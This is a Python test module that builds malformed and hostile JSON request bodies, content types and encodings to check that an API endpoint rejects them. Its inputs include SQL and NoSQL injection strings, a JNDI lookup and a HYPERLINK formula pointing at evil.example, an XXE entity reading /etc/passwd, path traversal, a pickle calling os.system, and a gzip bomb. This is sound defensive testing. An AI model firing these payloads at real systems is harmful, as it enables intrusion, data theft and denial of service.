"""Bodies: ids of every type (FAULTS A9), "Parsing JSON is a minefield", media types and codings."""

from __future__ import annotations

import gzip
import json
from typing import TYPE_CHECKING

from drills.raw_requests import BY_ID, CLOSED, FOUND, GOOD, INVALID, LONG, Case, chunked, head, post

if TYPE_CHECKING:
    from collections.abc import Iterator


def _values() -> dict[str, str]:
    plain = (
        '"12347"', "12347.0", "1.5", "1e3", "12.347e3", "true", "false", "null", "[]", "[12347]", "{}", "-1", "0", "-0",
        "9223372036854775808", "18446744073709551616", "1e400", "-1e400", "1e-400", "NaN", "Infinity", "-Infinity",
        "nan", "0x10", "0b1", "0o7", "012347", "+12347", "12_347", "12347.", ".5", "1e",
        "١٢", "\uff11\uff12", '""', '" "',
        '"\\u0000"', '"\\ud800"', '"\\udc00\\ud800"', '"\ud800"', '"\\x41"', '"\t"', "'12347'", "12347 12347", "12347,",
        "undefined", "None", "new Date()", "1n", "12347//", "/*x*/12347x",
        '{"$gt":0}', '{"$gt":""}', '{"$ne":null}', '{"$in":[12347]}', '{"$where":"sleep(5000)"}', '{"$regex":".*"}',
        '{"$expr":{"$function":{}}}', '{"$oid":"4cf621c81d1cab21fcf37a3e"}', '{"$numberLong":"12347"}',
        '"12347; DROP TABLE customers"', '"=HYPERLINK(\\"http://evil.example\\")"', '"<script>alert(1)</script>"',
        '"../../etc/passwd"', '"${jndi:ldap://evil.example}"', '"{{7*7}}"', f'"{LONG}"', f'{{"{LONG}": 1}}',
    )  # fmt: skip
    return {value[:32]: value for value in plain} | {
        "26 digits": "1" * 26,
        "4,000 digits": "9" * 4000,
        "5,000 digits": "9" * 5000,
        "5,000 digits after the point": "0." + "3" * 5000,
        "an exponent of 5,000 digits": "1e" + "9" * 5000,
        "900 deep": "[" * 900 + "]" * 900,
        "9,000 deep": "[" * 9000 + "]" * 9000,
        "30,000 deep": "[" * 30000 + "]" * 30000,
        "10,000 objects deep": '{"a":' * 10000 + "1" + "}" * 10000,
        "60,000 deep, without end": "[" * 60000,
    }


def ids(path: str, body: str) -> Iterator[Case]:
    for name, value in _values().items():
        sent = body.replace("%s", value).encode("utf-8", "surrogatepass")
        yield Case(f"{path} {name}", post(path, sent), INVALID)


def whole_bodies() -> Iterator[Case]:
    text = GOOD.decode()
    bodies: dict[str, bytes] = {
        "nothing": b"",
        "a space": b" ",
        "a brace": b"{",
        "a string": b'"12347"',
        "a BOM": b"\xef\xbb\xbf" + GOOD,
        "UTF-16": text.encode("utf-16"),
        "UTF-16 without a BOM": text.encode("utf-16-le"),
        "UTF-32": text.encode("utf-32"),
        "UTF-7": b'+AHsAIg-customer_id": 12347}',
        "latin-1": b'{"customer_id": "\xe9"}',
        "an overlong NUL": b'{"customer_id": "\xc0\x80"}',
        "an overlong slash": b'{"\xc0\xafcustomer_id": 12347}',
        "a surrogate": b'{"customer_id": "\xed\xa0\x80"}',
        "beyond Unicode": b'{"customer_id": "\xf4\x90\x80\x80"}',
        "a cut character": b'{"customer_id": "\xe2\x82"}',
        "a NUL at the end": GOOD + b"\x00",
        "a NUL in a key": b'{"customer_id\\u0000": 12347}',
        "a comment": b'{"customer_id": 12347 /* x */}',
        "a trailing comma": b'{"customer_id": 12347,}',
        "single quotes": b"{'customer_id': 12347}",
        "no quotes": b"{customer_id: 12347}",
        "two values": GOOD + GOOD,
        "two lines": GOOD + b"\n" + GOOD,
        "duplicate keys": b'{"customer_id": 12347, "customer_id": 12348}',
        "duplicate keys by escape": b'{"customer_id": 12347, "customer\\u005fid": 12348}',
        "__proto__": b'{"customer_id": 12347, "__proto__": {"a": 1}}',
        "$where": b'{"customer_id": 12347, "$where": "1"}',
        "a dotted key": b'{"customer_id.$gt": 0}',
        "an array": b"[" + GOOD + b"]",
        "3,000 keys": json.dumps({f"key{n}": n for n in range(3000)}).encode(),
        "a key of 60 KB": json.dumps({"k" * 60_000: 1}).encode(),
        "as_of is an operator": b'{"customer_id": 12347, "as_of": {"$gt": ""}}',
        "as_of is a formula": b'{"customer_id": 12347, "as_of": "=1+1"}',
        "as_of is long": json.dumps({"customer_id": 12347, "as_of": LONG * 100}).encode(),
        "as_of is year 10000": b'{"customer_id": 12347, "as_of": "10000-01-01T00:00:00Z"}',
        "as_of is a leap second": b'{"customer_id": 12347, "as_of": "2011-12-31T23:59:60Z"}',
        "explain is text": b'{"customer_id": 12347, "explain": "yes"}',
        "explain is an operator": b'{"customer_id": 12347, "explain": {"$ne": 1}}',
        "form fields": b"customer_id=12347",
        "XML": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "a pickle": b"\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
        "BSON": b"\x1a\x00\x00\x00\x12customer_id\x00;0\x00\x00\x00\x00\x00\x00\x00",
    }
    for name, body in bodies.items():
        yield Case(f"body: {name}", post(BY_ID, body), INVALID)
    yield Case("body: 200 KB", post(BY_ID, b" " * 200_000), frozenset({413, CLOSED}))
    yield Case("body: 200 KB in chunks", chunked(b"8000\r\n" + b" " * 0x8000 + b"\r\n" + b"8000\r\n" + b" " * 0x8000
               + b"\r\n8000\r\n" + b" " * 0x8000 + b"\r\n0\r\n\r\n"), frozenset({413, CLOSED}))  # fmt: skip


def media_types() -> Iterator[Case]:
    boundary = b'--x\r\nContent-Disposition: form-data; name="customer_id"\r\n\r\n12347\r\n--x--\r\n'
    other = frozenset({415})
    for media_type in (
        "text/plain", "text/json", "application/x-www-form-urlencoded", "application/xml", "application/jsonp", "json",
        "application/json+x", "application/x-json", "*/*", "application/*", "", ",", "application/json, text/plain",
        "application/octet-stream", "application/bson", "application/x-ndjson", LONG,
    ):  # fmt: skip
        yield Case(f"type: {media_type[:32]!r}", post(BY_ID, GOOD, media_type=media_type), other)
    yield Case("type: multipart", post(BY_ID, boundary, media_type="multipart/form-data; boundary=x"), other)
    yield Case("type: none", head("POST", BY_ID, f"Content-Length: {len(GOOD)}") + GOOD, other)
    charsets = FOUND | {415, 422}
    yield Case("type: another charset", post(BY_ID, GOOD, media_type="application/json; charset=utf-16"), charsets)
    yield Case("type: twice", post(BY_ID, GOOD, "Content-Type: text/plain"), charsets)
    for coding in ("gzip", "deflate", "br", "zstd", "compress", "gzip, gzip", "x-evil", "identity, gzip"):
        yield Case(f"coding: {coding}", post(BY_ID, gzip.compress(GOOD), f"Content-Encoding: {coding}"), other)
    bomb = gzip.compress(b" " * 20_000_000)
    yield Case("coding: a bomb", post(BY_ID, bomb, "Content-Encoding: gzip"), frozenset({413, 415}))
